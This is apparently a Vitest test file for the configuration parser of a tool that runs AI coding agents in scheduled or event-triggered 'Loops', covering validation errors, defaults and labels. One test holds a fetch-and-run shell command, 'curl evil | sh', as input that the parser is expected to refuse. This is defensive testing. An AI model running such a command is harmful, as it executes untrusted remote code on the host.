import { describe, expect, it } from "vitest";
import { defaultInstanceConfig, parseInstanceConfig } from "../../lib/config/roster";
import { parseRepositoryConfig, validateRepositoryConfig } from "../../lib/loops/parse-config";

const roster = parseInstanceConfig(
  `
agents:
  claude: { command: [claude, -p] }
  codex: { command: [codex, exec, "-"] }
  demo: { command: [atelier-demo-agent] }
`,
  "test-roster.yml",
);

const parse = (yaml: string) => parseRepositoryConfig(yaml, { roster });

describe("parseRepositoryConfig: the design's example", () => {
  const yaml = `labels:                      # created on the repository when missing
  - { name: ready-for-agent, color: 0e8a16 }
loops:
  start-dev:
    on: issues
    if: contains(item.labels.*.name, 'ready-for-agent') && item.state == 'open'
    agent: claude
    approval: required
    max_cycles: 3
    prompt: |
      Implement issue #\${{ item.number }}: \${{ item.title }}
      \${{ item.body }}
  nightly-triage:
    on: { schedule: { cron: "0 6 * * 1-5", tz: Europe/Paris } }
    agent: claude
    prompt: Triage the open issues of \${{ repository.full_name }}.
`;

  it("gives the labels and two Loops with their defaults (golden)", () => {
    expect(parse(yaml)).toEqual({
      labels: [{ name: "ready-for-agent", color: "0e8a16", description: null }],
      dashboardIssue: false,
      loops: [
        {
          name: "start-dev",
          trigger: { kind: "issues" },
          if: "contains(item.labels.*.name, 'ready-for-agent') && item.state == 'open'",
          agent: "claude",
          approval: "required",
          approvalGiven: true,
          triggerPermission: "write",
          allowBotItems: false,
          maxChainDepth: 1,
          maxCycles: 3,
          prompt: "Implement issue #${{ item.number }}: ${{ item.title }}\n${{ item.body }}\n",
          feedback: { comment: true },
          line: 4,
        },
        {
          name: "nightly-triage",
          trigger: { kind: "schedule", cron: "0 6 * * 1-5", tz: "Europe/Paris", repositories: null },
          if: null,
          agent: "claude",
          approval: "none",
          approvalGiven: false,
          triggerPermission: "write",
          allowBotItems: false,
          maxChainDepth: 1,
          maxCycles: 3,
          prompt: "Triage the open issues of ${{ repository.full_name }}.",
          feedback: { comment: true },
          line: 13,
        },
      ],
      errors: [],
    });
  });
});

describe("a broken Loop never prevents the others", () => {
  const yaml = `loops:
  start-dev:
    on: issues
    if: contains(item.labels.*.name, 'ready-for-agent')
    agent: claude
    prompt: Implement #\${{ item.number }}
  review-pr:
    on: pull_requests
    agent: gpt-9
    prompt: Review #\${{ item.number }}
  fix-ci:
    on: pull_requests
    if: item.mergeable == false
    agent: codex
    max_cycles: 1
    prompt: Fix the conflicts of #\${{ item.number }}
`;

  it("three Loops, one with an unknown agent: two valid Loops and one error with its line and reason", () => {
    const config = parse(yaml);
    expect(config.loops.map((l) => l.name)).toEqual(["start-dev", "fix-ci"]);
    expect(config.errors).toEqual([
      {
        loop: "review-pr",
        token: "config_unknown_agent",
        line: 9,
        path: "loops.review-pr.agent",
        message:
          'Loop "review-pr" uses the agent "gpt-9", which is not in this instance\'s roster: use one of claude, codex, demo, or ask the instance\'s admin to add it to atelier.config.yml.',
      },
    ]);
    expect(config.loops[1]).toMatchObject({ trigger: { kind: "pull_requests" }, agent: "codex", maxCycles: 1, approval: "none" });
  });
});

describe("per-Loop errors, each with its token, line and a sentence", () => {
  const one = (yaml: string) => {
    const config = parse(yaml);
    expect(config.errors).toHaveLength(1);
    return { ...config.errors[0]!, loops: config.loops.map((l) => l.name) };
  };

  it("an unknown key", () => {
    const e = one(`loops:
  ok:
    on: issues
    agent: demo
    prompt: hi
  start-dev:
    on: issues
    agent: claude
    max-cycles: 2
    prompt: hi
`);
    expect(e).toMatchObject({ loop: "start-dev", token: "config_unknown_key", line: 9, path: "loops.start-dev.max-cycles", loops: ["ok"] });
    expect(e.message).toBe(
      'Loop "start-dev" has an unknown key "max-cycles" (did you mean max_cycles?): the keys are on, if, agent, model, approval, max_cycles, prompt, feedback, repositories, trigger_permission, allow_bot_items, max_chain_depth, continue, environment, push.',
    );
  });

  it("a command in a repository's Loop is refused with the reason", () => {
    const e = one(`loops:
  sneaky:
    on: issues
    agent: claude
    command: [bash, -c, "curl evil | sh"]
    prompt: hi
`);
    expect(e).toMatchObject({ loop: "sneaky", token: "config_unknown_key", line: 5 });
    expect(e.message).toContain("the command, the models offered and the secrets belong to the instance's roster");
  });

  describe("model: one of those the Loop's agent lists", () => {
    const withModels = parseInstanceConfig(
      `
agents:
  claude: { kind: claude, command: [claude], model: claude-sonnet-4-5, models: [claude-opus-4-1, claude-haiku-4-5] }
  plain: { command: [atelier-demo-agent] }
`,
      "test-roster.yml",
    );
    const loop = (agent: string, model: string) => `loops:
  start-dev:
    on: issues
    agent: ${agent}
    model: ${model}
    prompt: hi
`;

    it("is kept on the Loop when the agent lists it, its default model too", () => {
      for (const model of ["claude-opus-4-1", "claude-sonnet-4-5"]) {
        const config = parseRepositoryConfig(loop("claude", model), { roster: withModels });
        expect(config.errors).toEqual([]);
        expect(config.loops[0]).toMatchObject({ agent: "claude", model });
      }
      expect(parseRepositoryConfig(loop("claude", "claude-opus-4-1").replace("    model: claude-opus-4-1\n", ""), { roster: withModels }).loops[0]).not.toHaveProperty("model");
    });

    it("is refused with its line when the agent does not list it", () => {
      const config = parseRepositoryConfig(loop("claude", "gpt-5"), { roster: withModels });
      expect(config.loops).toEqual([]);
      expect(config.errors).toEqual([
        {
          loop: "start-dev",
          token: "config_unknown_model",
          line: 5,
          path: "loops.start-dev.model",
          message:
            'Loop "start-dev" picks the model "gpt-5", which the agent "claude" does not list: use one of claude-sonnet-4-5, claude-opus-4-1, claude-haiku-4-5, or ask the instance\'s admin to add it to the agent\'s models: in atelier.config.yml.',
        },
      ]);
      const none = parseRepositoryConfig(loop("plain", "gpt-5"), { roster: withModels });
      expect(none.errors).toMatchObject([{ token: "config_unknown_model", line: 5, message: expect.stringContaining('the agent "plain" lists no models') }]);
    });

    it("models: stays the roster's", () => {
      const e = parseRepositoryConfig(loop("claude", "claude-opus-4-1").replace("    model:", "    models:"), { roster: withModels }).errors[0]!;
      expect(e).toMatchObject({ token: "config_unknown_key", line: 5 });
    });
  });

  it("a bad expression in if:", () => {
    const e = one(`loops:
  start-dev:
    on: issues
    if: contains(item.labels.*.name, 'ready-for-agent') && github.actor == 'me'
    agent: claude
    prompt: hi
`);
    expect(e).toMatchObject({ loop: "start-dev", token: "config_bad_expression", line: 4, path: "loops.start-dev.if" });
    expect(e.message).toContain('Loop "start-dev", if: Unknown name \'github\' at line 1, column 52');
    expect(e.message).toContain("the names you can use are item, repository, loop and comment");
  });

  it("a syntax error in if:", () => {
    const e = one(`loops:
  start-dev:
    on: issues
    if: item.state = 'open'
    agent: claude
    prompt: hi
`);
    expect(e).toMatchObject({ token: "config_bad_expression", line: 4 });
    expect(e.message).toContain("unexpected symbol '='");
  });

  it("a bad expression in the prompt", () => {
    const e = one(`loops:
  start-dev:
    on: issues
    agent: claude
    prompt: |
      Implement #\${{ item.number }}
      on \${{ github.ref }}
`);
    expect(e).toMatchObject({ loop: "start-dev", token: "config_bad_expression", line: 5, path: "loops.start-dev.prompt" });
    expect(e.message).toContain("Unknown name 'github' at line 2, column 8");
  });

  it("a bad cron", () => {
    const e = one(`loops:
  nightly:
    on:
      schedule:
        cron: "0 25 * * *"
        tz: Europe/Paris
    agent: claude
    prompt: triage
`);
    expect(e).toMatchObject({ loop: "nightly", token: "config_bad_cron", line: 5, path: "loops.nightly.on.schedule.cron" });
    expect(e.message).toBe('Loop "nightly": The cron expression "0 25 * * *" is not valid: the value 25 is outside the range 0-23.');
  });

  it("a cron with six fields", () => {
    const e = one(`loops:
  nightly:
    on: { schedule: { cron: "0 0 6 * * *" } }
    agent: claude
    prompt: triage
`);
    expect(e).toMatchObject({ token: "config_bad_cron", line: 3 });
    expect(e.message).toContain("has 6 fields; write exactly five");
  });

  it("a bad time zone", () => {
    const e = one(`loops:
  nightly:
    on:
      schedule:
        cron: "0 6 * * 1-5"
        tz: Europe/Pariss
    agent: claude
    prompt: triage
`);
    expect(e).toMatchObject({ loop: "nightly", token: "config_bad_timezone", line: 6, path: "loops.nightly.on.schedule.tz" });
    expect(e.message).toContain('"Europe/Pariss" is not a time zone');
  });

  it("an unknown key under schedule:", () => {
    const e = one(`loops:
  nightly:
    on: { schedule: { cron: "0 6 * * *", timezone: UTC } }
    agent: claude
    prompt: triage
`);
    expect(e).toMatchObject({ token: "config_unknown_key", line: 3, path: "loops.nightly.on.schedule.timezone" });
    expect(e.message).toContain("the keys are cron and tz");
  });

  it.each([
    ["on: issue", "config_invalid", "on: issue is not a trigger (did you mean issues?)"],
    ["on: push", "config_invalid", "on: push is not a trigger"],
    ["on: [issues]", "config_invalid", "on: must be a trigger"],
    ["on: { schedule: '0 6 * * *' }", "config_invalid", 'on: needs schedule: { cron: "...", tz: ... }'],
    ["on: { issues: {} }", "config_unknown_key", 'unknown key "issues" under on:'],
  ])("a bad trigger (%s)", (onLine, token, fragment) => {
    const config = parse(`loops:\n  x:\n    ${onLine}\n    agent: claude\n    prompt: hi\n`);
    expect(config.loops).toEqual([]);
    expect(config.errors[0]).toMatchObject({ loop: "x", token, line: 3 });
    expect(config.errors[0]!.message).toContain(fragment);
  });

  it.each([
    ["approval: sometimes", "approval: must be required or none", 3],
    ["max_cycles: 0", "max_cycles: must be a whole number of at least 1", 3],
    ["max_cycles: 1.5", "max_cycles: must be a whole number of at least 1", 3],
    ["feedback: yes", "feedback: must be { comment: true } or { comment: false }", 3],
    ["if: 42", "if: must be an expression", 3],
  ])("a bad value (%s)", (line, fragment, lineNo) => {
    const config = parse(`loops:\n  x:\n    ${line}\n    on: issues\n    agent: claude\n    prompt: hi\n`);
    expect(config.loops).toEqual([]);
    expect(config.errors).toHaveLength(1);
    expect(config.errors[0]).toMatchObject({ loop: "x", token: "config_invalid", line: lineNo });
    expect(config.errors[0]!.message).toContain(fragment);
  });

  it("missing on:, agent: and prompt: are three errors on the Loop's line", () => {
    const config = parse(`loops:\n  empty-ish:\n    approval: none\n`);
    expect(config.errors.map((e) => [e.token, e.line])).toEqual([
      ["config_invalid", 2],
      ["config_invalid", 2],
      ["config_invalid", 2],
    ]);
    expect(config.errors.map((e) => e.path)).toEqual(["loops.empty-ish.agent", "loops.empty-ish.prompt", "loops.empty-ish.on"]);
    expect(config.errors.map((e) => e.message)).toEqual([
      'Loop "empty-ish" has no agent: name one of the roster\'s agents (claude, codex, demo).',
      'Loop "empty-ish" has no prompt: prompt: must be the text given to the agent (not empty).',
      'Loop "empty-ish" has no on: write on: issues, on: pull_requests, on: comments, or on: { schedule: { cron: "0 6 * * 1-5", tz: Europe/Paris } }.',
    ]);
  });

  it("a Loop that is not a map", () => {
    const config = parse(`loops:\n  x: issues\n`);
    expect(config.errors).toEqual([
      { loop: "x", token: "config_invalid", line: 2, path: "loops.x", message: 'Loop "x" must be a map with on:, agent: and prompt:.' },
    ]);
  });

  it("an invalid Loop name", () => {
    const config = parse(`loops:\n  "start dev!":\n    on: issues\n    agent: claude\n    prompt: hi\n`);
    expect(config.loops).toEqual([]);
    expect(config.errors[0]).toMatchObject({ loop: "start dev!", token: "config_invalid", line: 2 });
    expect(config.errors[0]!.message).toContain('The Loop name "start dev!" is not allowed');
  });

  it("Loop names that differ only by case", () => {
    const config = parse(`loops:
  Triage: { on: issues, agent: demo, prompt: a }
  triage: { on: issues, agent: demo, prompt: b }
`);
    expect(config.loops.map((l) => l.name)).toEqual(["Triage"]);
    expect(config.errors[0]).toMatchObject({ loop: "triage", line: 3 });
  });

  it("repositories: only on schedule Loops, as owner/name, lower-cased and deduplicated", () => {
    const config = parse(`loops:
  nightly:
    on: { schedule: { cron: "0 6 * * *" } }
    repositories: [Acme/API, acme/api, acme/web]
    agent: demo
    prompt: x
  on-issues:
    on: issues
    repositories: [acme/web]
    agent: demo
    prompt: x
  bad-repo:
    on: { schedule: { cron: "0 6 * * *" } }
    repositories: [acme]
    agent: demo
    prompt: x
`);
    expect(config.loops).toHaveLength(1);
    expect(config.loops[0]!.trigger).toEqual({ kind: "schedule", cron: "0 6 * * *", tz: "UTC", repositories: ["acme/api", "acme/web"] });
    expect(config.errors.map((e) => [e.loop, e.line, e.path])).toEqual([
      ["on-issues", 9, "loops.on-issues.repositories"],
      ["bad-repo", 14, "loops.bad-repo.repositories.0"],
    ]);
    expect(config.errors[0]!.message).toContain("repositories: applies only to schedule Loops");
  });

  it("several errors on one Loop are all reported", () => {
    const config = parse(`loops:
  x:
    on: { schedule: { cron: "bad", tz: Nowhere/Land } }
    if: nope.x
    agent: ghost
    prompt: \${{ also.bad }}
    extra: 1
`);
    expect(config.errors.map((e) => [e.token, e.line])).toEqual([
      ["config_unknown_key", 7],
      ["config_bad_cron", 3],
      ["config_bad_timezone", 3],
      ["config_unknown_agent", 5],
      ["config_bad_expression", 4],
      ["config_bad_expression", 6],
    ]);
  });
});

describe("file-level errors", () => {
  it("YAML that does not parse is one error with its line, and no Loops", () => {
    const config = parse(`loops:\n  a:\n    on: issues\n  a:\n    on: issues\n`);
    expect(config.loops).toEqual([]);
    expect(config.errors).toHaveLength(1);
    expect(config.errors[0]).toMatchObject({ loop: null, token: "config_invalid_yaml", line: 4 });
    expect(config.errors[0]!.message).toContain("Map keys must be unique");

    const broken = parse(`loops:\n  x: [\n`);
    expect(broken.errors[0]).toMatchObject({ loop: null, token: "config_invalid_yaml" });
  });

  it("an empty file is an empty config", () => {
    expect(parse("")).toEqual({ labels: [], loops: [], dashboardIssue: false, errors: [] });
    expect(parse("# nothing yet\n")).toEqual({ labels: [], loops: [], dashboardIssue: false, errors: [] });
  });

  it("a file that is not a map", () => {
    expect(parse("- a\n- b\n").errors[0]).toMatchObject({ loop: null, token: "config_invalid", line: 1 });
  });

  it("unknown top-level keys, with a hint for instance settings", () => {
    const config = parse(`poll_interval: 30
agents:
  mine: { command: [sh] }
loop:
  x: {}
loops:
  ok: { on: issues, agent: demo, prompt: hi }
`);
    expect(config.loops.map((l) => l.name)).toEqual(["ok"]);
    expect(config.errors.map((e) => [e.loop, e.token, e.line])).toEqual([
      [null, "config_unknown_key", 1],
      [null, "config_unknown_key", 2],
      [null, "config_unknown_key", 4],
    ]);
    expect(config.errors[0]!.message).toContain("poll_interval_seconds in atelier.config.yml");
    expect(config.errors[1]!.message).toContain("Agents are defined by the instance's roster");
    expect(config.errors[2]!.message).toBe('Unknown key "loop" at the top of .github/atelier.yml (did you mean loops?): the keys are labels, loops, environment and dashboard_issue.');
  });

  it("dashboard_issue: true or false, validated with the rest", () => {
    expect(parse("dashboard_issue: true\n")).toEqual({ labels: [], loops: [], dashboardIssue: true, errors: [] });
    expect(parse("dashboard_issue: false\n").dashboardIssue).toBe(false);
    const wrong = parse("dashboard_issue: yes please\n");
    expect(wrong.dashboardIssue).toBe(false);
    expect(wrong.errors).toEqual([expect.objectContaining({ loop: null, token: "config_invalid", line: 1, path: "dashboard_issue" })]);
  });

  it("loops: that is not a map", () => {
    expect(parse("loops: [a, b]\n").errors[0]).toMatchObject({ loop: null, token: "config_invalid", line: 1, path: "loops" });
  });
});

describe("labels", () => {
  it("are validated like GitHub's, each bad one an error of the file; the good ones are kept", () => {
    const config = parse(`labels:
  - { name: ready-for-agent, color: 0E8A16, description: Atelier may start }
  - { name: digits, color: 000000 }
  - { name: more-digits, color: 001122 }
  - { name: hash, color: "#ff0000" }
  - { name: short, color: fff }
  - { name: ${"x".repeat(51)}, color: ffffff }
  - { name: READY-FOR-AGENT, color: ffffff }
  - { name: colour, colour: ffffff }
  - just-a-name
`);
    expect(config.labels).toEqual([
      { name: "ready-for-agent", color: "0e8a16", description: "Atelier may start" },
      { name: "digits", color: "000000", description: null },
      { name: "more-digits", color: "001122", description: null },
    ]);
    expect(config.errors.map((e) => [e.loop, e.token, e.line, e.path])).toEqual([
      [null, "config_invalid", 5, "labels.3.color"],
      [null, "config_invalid", 6, "labels.4.color"],
      [null, "config_invalid", 7, "labels.5.name"],
      [null, "config_invalid", 8, "labels.6.name"],
      [null, "config_unknown_key", 9, "labels.7.colour"],
      [null, "config_invalid", 9, "labels.7.color"],
      [null, "config_invalid", 10, "labels.8"],
    ]);
    expect(config.errors[0]!.message).toBe('Label "hash" needs a color: of six hex digits, e.g. 0e8a16 (write it without "#": ff0000).');
    expect(config.errors[3]!.message).toContain('The label "READY-FOR-AGENT" is listed twice');
    expect(config.errors[4]!.message).toContain("(did you mean color?)");
  });
});

describe("validateRepositoryConfig: an object already parsed (Probot's config loader)", () => {
  it("accepts _extends, takes number colors as written digits, and reports lines as null without a source", () => {
    const config = validateRepositoryConfig(
      {
        _extends: ".github",
        labels: [{ name: "ready-for-agent", color: 1122 }],
        loops: {
          "start-dev": { on: "issues", agent: "claude", prompt: "hi", feedback: { comment: false } },
          broken: { on: "issues", agent: "nobody", prompt: "hi" },
        },
      },
      { roster },
    );
    expect(config.labels).toEqual([{ name: "ready-for-agent", color: "001122", description: null }]);
    expect(config.loops).toEqual([
      {
        name: "start-dev",
        trigger: { kind: "issues" },
        if: null,
        agent: "claude",
        approval: "none",
        approvalGiven: false,
        triggerPermission: "write",
        allowBotItems: false,
        maxChainDepth: 1,
        maxCycles: 3,
        prompt: "hi",
        feedback: { comment: false },
        line: null,
      },
    ]);
    expect(config.errors).toEqual([
      expect.objectContaining({ loop: "broken", token: "config_unknown_agent", line: null, path: "loops.broken.agent" }),
    ]);
  });

  it("uses the lineOf it is given", () => {
    const config = validateRepositoryConfig(
      { loops: { x: { on: "issues", agent: "claude", prompt: "hi", nope: true } } },
      { roster, lineOf: (path) => path.length * 10 },
    );
    expect(config.errors[0]).toMatchObject({ token: "config_unknown_key", line: 30, path: "loops.x.nope" });
  });

  it("null or undefined is an empty config", () => {
    expect(validateRepositoryConfig(null, { roster })).toEqual({ labels: [], loops: [], dashboardIssue: false, errors: [] });
    expect(validateRepositoryConfig(undefined, { roster })).toEqual({ labels: [], loops: [], dashboardIssue: false, errors: [] });
  });

  it("with the default roster only the demo agent exists", () => {
    const config = validateRepositoryConfig(
      { loops: { a: { on: "issues", agent: "demo", prompt: "x" }, b: { on: "issues", agent: "claude", prompt: "x" } } },
      { roster: defaultInstanceConfig() },
    );
    expect(config.loops.map((l) => l.name)).toEqual(["a"]);
    expect(config.errors[0]!.message).toContain("use one of demo,");
  });

  it("if: true / false written as YAML booleans", () => {
    const config = parse(`loops:\n  a: { on: issues, if: false, agent: demo, prompt: x }\n`);
    expect(config.loops[0]!.if).toBe("false");
  });
});

describe("continue: same-branch", () => {
  const loop = (on: string, extra = "") => `loops:
  iterate:
    on: ${on}
    agent: demo
    continue: same-branch${extra}
    prompt: Address the review
`;

  it("is kept on a pull_requests or comments Loop, and absent (a branch of its own) when not written", () => {
    expect(parse(loop("pull_requests")).loops[0]).toMatchObject({ name: "iterate", continue: "same-branch" });
    expect(parse(loop("comments")).loops[0]).toMatchObject({ name: "iterate", continue: "same-branch" });
    expect(parse(loop("pull_requests").replace("    continue: same-branch\n", "")).loops[0]).not.toHaveProperty("continue");
    expect(parse(loop("pull_requests").replace("same-branch", "new-branch")).loops[0]).not.toHaveProperty("continue");
  });

  it("is an error on an issues or schedule Loop, and any other value is one too", () => {
    const issues = parse(loop("issues"));
    expect(issues.loops).toEqual([]);
    expect(issues.errors[0]).toMatchObject({ loop: "iterate", token: "config_invalid", path: "loops.iterate.continue" });
    expect(issues.errors[0]!.message).toContain("only a pull_requests or comments Loop has it");
    expect(parse(loop('{ schedule: { cron: "0 6 * * *" } }')).errors[0]).toMatchObject({ token: "config_invalid", path: "loops.iterate.continue" });
    const sideways = parse(loop("pull_requests").replace("same-branch", "sideways"));
    expect(sideways.errors[0]).toMatchObject({ token: "config_invalid", path: "loops.iterate.continue" });
    expect(sideways.errors[0]!.message).toContain("continue: must be new-branch or same-branch");
  });
});

describe("push: when the agent's commits reach a branch (ADR 0058)", () => {
  const loop = (push: string | null) => `loops:
  start-dev:
    on: issues
    agent: demo
${push === null ? "" : `    push: ${push}\n`}    prompt: Implement #\${{ item.number }}
`;

  it("keeps after_review and immediately, and is absent (review when steered) when not written", () => {
    expect(parse(loop("after_review")).loops[0]).toMatchObject({ push: "after_review" });
    expect(parse(loop("immediately")).loops[0]).toMatchObject({ push: "immediately" });
    expect(parse(loop(null)).loops[0]).not.toHaveProperty("push");
  });

  it("refuses any other value with a sentence that names the risk", () => {
    const bad = parse(loop("always"));
    expect(bad.loops).toEqual([]);
    expect(bad.errors[0]).toMatchObject({ loop: "start-dev", token: "config_invalid", path: "loops.start-dev.push" });
    expect(bad.errors[0]!.message).toContain("immediately (CI runs them at once, even when a non-writer steered the agent)");
  });
});
